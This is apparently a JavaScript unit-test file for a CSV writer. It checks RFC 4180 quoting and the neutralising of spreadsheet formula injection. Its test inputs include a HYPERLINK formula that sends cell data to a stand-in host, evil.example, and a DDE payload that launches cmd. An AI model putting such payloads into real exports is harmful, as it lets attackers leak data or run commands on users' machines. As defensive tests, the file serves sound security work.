import { toCsv } from './csv.js';

describe('toCsv (RFC 4180)', () => {
  it('writes a header row, then one row per record, each line ended with CRLF', () => {
    expect(toCsv(['a', 'b'], [['1', '2'], ['3', '4']])).toBe('a,b\r\n1,2\r\n3,4\r\n');
  });

  it('quotes a field holding a comma, a quote or a line break, and doubles its quotes', () => {
    expect(toCsv(['x'], [['张三, 李四'], ['say "hi"'], ['two\nlines'], ['cr\rhere'], ['plain']])).toBe(
      'x\r\n"张三, 李四"\r\n"say ""hi"""\r\n"two\nlines"\r\n"cr\rhere"\r\nplain\r\n',
    );
  });

  it.each([
    ['=', '=HYPERLINK("http://evil.example/?"&A1,"open")', `"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`],
    ['+', '+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
    ['-', '-2+3', `'-2+3`],
    ['@', '@SUM(1,2)', `"'@SUM(1,2)"`],
    ['a tab', '\t=1+2', `'\t=1+2`],
    ['a carriage return', '\r=1+2', `"'\r=1+2"`],
  ])('prefixes a cell starting with %s with a quote, so a spreadsheet shows it as text', (_start, value, cell) => {
    expect(toCsv(['x'], [[value]])).toBe(`x\r\n${cell}\r\n`);
  });

  it('leaves a formula character anywhere but at the start alone', () => {
    expect(toCsv(['x', 'y'], [['a=b', 'x-1@y'], ['2026-11-27T10:00:00.000Z', ' =1']])).toBe('x,y\r\na=b,x-1@y\r\n2026-11-27T10:00:00.000Z, =1\r\n');
  });

  it('neutralises a header cell too', () => {
    expect(toCsv(['=x'], [])).toBe("'=x\r\n");
  });

  it('is the header alone when there is nothing to report', () => {
    expect(toCsv(['at', 'department'], [])).toBe('at,department\r\n');
  });
});
